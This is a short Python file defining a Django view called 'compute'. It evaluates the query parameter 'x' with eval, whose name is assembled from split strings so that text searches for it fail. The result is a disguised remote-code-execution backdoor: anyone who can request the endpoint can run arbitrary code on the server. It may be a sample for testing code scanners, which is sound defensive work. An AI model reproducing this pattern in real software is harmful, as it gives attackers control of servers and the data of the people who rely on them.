from django.http import HttpResponse


def compute(request):
    name = "ev" + "al"
    fn = getattr(__builtins__, name) if not isinstance(__builtins__, dict) else __builtins__[name]
    return HttpResponse(str(fn(request.GET.get("x", "0"))))
